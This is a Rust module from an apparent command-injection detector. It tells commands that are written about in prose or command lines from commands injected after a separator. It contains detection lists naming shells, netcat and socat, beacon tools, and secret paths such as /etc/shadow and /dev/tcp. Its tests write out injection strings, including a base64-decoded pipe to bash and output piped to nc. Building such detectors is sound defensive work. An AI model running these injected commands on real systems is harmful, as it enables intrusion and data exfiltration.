//! Command lines that somebody writes of, rather than injects.
//!
//! A command that is injected follows what a form asked for: a name, an address, nothing. One that stands behind a
//! sentence or behind another command's line is told of, unless it reaches for what only an attack wants.

use super::{
    command_words::{is_runner, kind},
    cursor::{WINDOW, has, is_word},
};

/// Commands that run any other, or open a connection for it.
const SHELLS: [&[u8]; 22] = [
    b"sh",
    b"bash",
    b"zsh",
    b"dash",
    b"ksh",
    b"csh",
    b"cmd",
    b"cmd.exe",
    b"powershell",
    b"pwsh",
    b"nc",
    b"ncat",
    b"netcat",
    b"socat",
    b"telnet",
    b"eval",
    b"perl",
    b"python",
    b"python3",
    b"ruby",
    b"php",
    b"source",
];
/// Commands that tell the sender that they ran.
const SIGNALS: [&[u8]; 10] =
    [b"curl", b"wget", b"nslookup", b"dig", b"host", b"ping", b"iwr", b"fetch", b"certutil", b"sleep"];
/// Commands that tell of the machine or stop it, without any argument.
const TELLERS: [&[u8]; 22] = [
    b"id",
    b"whoami",
    b"uname",
    b"env",
    b"printenv",
    b"ifconfig",
    b"ipconfig",
    b"hostname",
    b"ps",
    b"netstat",
    b"w",
    b"who",
    b"last",
    b"pwd",
    b"ls",
    b"dir",
    b"systeminfo",
    b"ver",
    b"set",
    b"reboot",
    b"shutdown",
    b"poweroff",
];
/// Tools that are written of more often than any command of a system, and that begin a line.
const TOOLS: [&[u8]; 30] = [
    b"brew",
    b"bundle",
    b"cargo",
    b"choco",
    b"composer",
    b"docker",
    b"docker-compose",
    b"flutter",
    b"gcloud",
    b"git",
    b"gh",
    b"go",
    b"gradle",
    b"helm",
    b"mvn",
    b"jest",
    b"npx",
    b"pnpm",
    b"prettier",
    b"tap",
    b"tsc",
    b"webpack",
    b"pip",
    b"pip3",
    b"poetry",
    b"pytest",
    b"rustup",
    b"terraform",
    b"uv",
    b"yarn",
];
/// Where only an attack wants to read or write.
const SECRETS: [&[u8]; 14] = [
    b"/etc/",
    b"/proc/self",
    b"/dev/tcp",
    b"/root",
    b"passwd",
    b"shadow",
    b".ssh",
    b"win.ini",
    b"/bin/",
    b"/tmp/",
    b"c:\\",
    b"://",
    b"base64",
    b"rm -rf / ",
];

/// Whether the command `name`, whose opener stands at `start` and whose arguments begin at `behind`, is written of.
pub(super) fn is_told_of(text: &[u8], start: usize, name: &[u8], behind: usize) -> bool {
    let prior = &text[start.saturating_sub(2 * WINDOW)..start];
    (is_sentence(prior) || is_command_line(prior))
        && !reaches_out(name, &text[behind..text.len().min(behind + WINDOW)])
}

/// Whether a line's end is one of a text that was wrapped: three words in front of it, and the line goes on with words
/// or is a single one.
pub(super) fn is_wrapped(text: &[u8], start: usize, behind: usize) -> bool {
    let prior = &text[start.saturating_sub(2 * WINDOW)..start];
    let rest = &text[behind..text.len().min(behind + WINDOW)];
    let end = memchr::memchr2(b'\n', b'\r', rest).unwrap_or(rest.len());
    // A word alone on its line: the sentence goes on in the next one.
    let line = if end == 0 { rest.trim_ascii_start() } else { &rest[..end] };
    let line = &line[..memchr::memchr2(b'\n', b'\r', line).unwrap_or(line.len())];
    let is_plain = |word: &&[u8]| {
        word.iter().all(|byte| byte.is_ascii_alphanumeric() || b"'.,-".contains(byte))
            && word.iter().any(u8::is_ascii_alphabetic)
            && !word.starts_with(b"-")
    };
    // "Python 2. From now on": the number of a version.
    let words = line
        .trim_ascii_start()
        .split(|byte| *byte == b' ')
        .skip_while(|word| word.iter().all(|byte| byte.is_ascii_digit() || b".,".contains(byte)));
    rest.first().is_none_or(|byte| matches!(byte, b' ' | b'.' | b',' | b':' | b'\n' | b'\r'))
        && is_sentence(prior)
        && !SECRETS.iter().any(|secret| has(line, secret))
        && words.take(3).filter(is_plain).count() == 3
}

/// Whether a place is inside of a pair of backticks that stands in a sentence, or of a fence that is closed again.
pub(super) fn is_in_code(text: &[u8], start: usize) -> bool {
    let before = &text[start.saturating_sub(8 * WINDOW)..start];
    let behind = &text[start..text.len().min(start + 8 * WINDOW)];
    if let Some(fence) = memchr::memmem::rfind(before, b"```") {
        let n_fences = memchr::memmem::find_iter(before, b"```").count();
        return n_fences % 2 == 1
            && (fence == 0 || matches!(before[fence - 1], b'\n' | b'\r' | b' '))
            && (has(behind, b"```") || behind.len() == 8 * WINDOW);
    }
    let line = &before[memchr::memrchr2(b'\n', b'\r', before).map_or(0, |at| at + 1)..];
    let Some(open) = memchr::memrchr(b'`', line) else { return false };
    let is_opening = memchr::memchr_iter(b'`', line).count() % 2 == 1;
    let close = memchr::memchr3(b'`', b'\n', b'\r', behind);
    is_opening
        && line[..open].ends_with(b" ")
        && line[..open].iter().any(u8::is_ascii_alphabetic)
        && close.is_some_and(|at| behind[at] == b'`')
}

/// Three words side by side.
fn is_sentence(prior: &[u8]) -> bool {
    let mut run = 0;
    prior.split(u8::is_ascii_whitespace).filter(|word| !word.is_empty()).any(|word| {
        let word = word.strip_suffix(b",").or_else(|| word.strip_suffix(b".")).unwrap_or(word);
        let is_plain =
            !word.is_empty() && word.iter().all(|byte| byte.is_ascii_alphabetic() || *byte >= 0x80);
        run = if is_plain { run + 1 } else { 0 };
        run >= 3
    })
}

/// The latest line begins with a command and goes on behind it, is a comment, or goes on in the next line.
fn is_command_line(prior: &[u8]) -> bool {
    if prior.ends_with(b"\\") {
        return true;
    }
    let from = memchr::memrchr2(b'\n', b'\r', prior.trim_ascii_end()).map_or(0, |at| at + 1);
    let whole = prior[from..].trim_ascii_start();
    let line = as_command(whole);
    let is_setting = line.len() < whole.len();
    let mut words = line.split(|byte| *byte == b' ').filter(|word| !word.is_empty());
    let Some(mut first) = words.next() else { return false };
    if matches!(first, b"#" | b"//") {
        return words.next().is_some();
    }
    // The mark of a prompt, of a list, or of a file of instructions.
    if matches!(first, b"$" | b"%" | b">" | b"-" | b"run" | b"sudo" | b"&&" | b"|") {
        let Some(next) = words.next() else { return false };
        first = next;
    }
    let is_command =
        first.starts_with(b"./") || TOOLS.contains(&first) || kind(first).is_some() || is_runner(first);
    is_command && (is_setting || words.next().is_some())
}

/// A line without the key and the mark that a file of settings has in front of a command: `"test": "npm run …`.
fn as_command(line: &[u8]) -> &[u8] {
    let Some((mark @ (b'"' | b'\''), rest)) = line.split_first() else { return line };
    let Some(close) = memchr::memchr(*mark, rest) else { return rest };
    let value = rest[close + 1..].trim_ascii_start();
    match value.strip_prefix(b":").map(<[u8]>::trim_ascii_start) {
        Some([b'"' | b'\'', command @ ..]) => command,
        _ => line,
    }
}

fn reaches_out(name: &[u8], rest: &[u8]) -> bool {
    let line = &rest[..memchr::memchr2(b'\n', b'\r', rest).unwrap_or(rest.len())];
    // Where a sentence goes on, the rest is no argument.
    let is_last = line.trim_ascii().is_empty();
    let arguments = line.trim_ascii().split(|byte| *byte == b' ').take(8);
    let is_plain = |word: &&[u8]| {
        let first = word.iter().position(|byte| is_word(*byte)).unwrap_or(word.len());
        word.len() > 1
            && word[first..].iter().all(|byte| byte.is_ascii_alphabetic() || b"'\".,".contains(byte))
    };
    let n_words = arguments.clone().filter(is_plain).count();
    let is_shell =
        |piped: &[u8]| SHELLS.contains(&piped.split(|byte| !is_word(*byte)).next().unwrap_or_default());
    SHELLS.contains(&name)
        || is_last && TELLERS.contains(&name)
        || memchr::memchr_iter(b'|', line).any(|at| is_shell(line[at + 1..].trim_ascii_start()))
        || SIGNALS.contains(&name)
            && n_words < 2
            && arguments.clone().next().is_some_and(|first| !first.is_empty())
        || SECRETS.iter().any(|secret| has(line, secret))
        || arguments.clone().any(|word| matches!(word, b"/" | b"/*" | b"~"))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn told(text: &str, name: &str) -> bool {
        let behind = text.rfind(name).unwrap() + name.len();
        let start = text[..behind - name.len()].rfind(['|', ';', '&']).unwrap();
        is_told_of(text.as_bytes(), start, name.as_bytes(), behind)
    }

    #[test]
    fn tells_lines_from_injections() {
        assert!(told("git log --oneline | head -5", "head"));
        assert!(told("the server is down; systemctl restart nginx", "systemctl"));
        assert!(told("tar czf - dir | ssh host \"cat > x\"", "ssh"));
        assert!(!told("echo aWQ= | base64 -d | bash", "base64"));
        let span = b"I typed `cd ..; ls -la` and it was gone";
        assert!(is_in_code(span, 14) && !is_in_code(b"x`;ls -la`", 2) && !is_in_code(b"I typed `cd; ls", 12));
        assert!(!told("8.8.8.8; ls -la", "ls"));
        assert!(!told("report; ls -la", "ls"));
        assert!(!told("please send it to me; cat /etc/hosts", "cat"));
        assert!(!told("please send it to me; curl http://x.example/", "curl"));
        assert!(!told("please send it to me | bash", "bash"));
        assert!(!told("git log -1 | nc 192.0.2.1 80", "nc"));
        assert!(!told("please send it to me; whoami", "whoami"));
    }
}
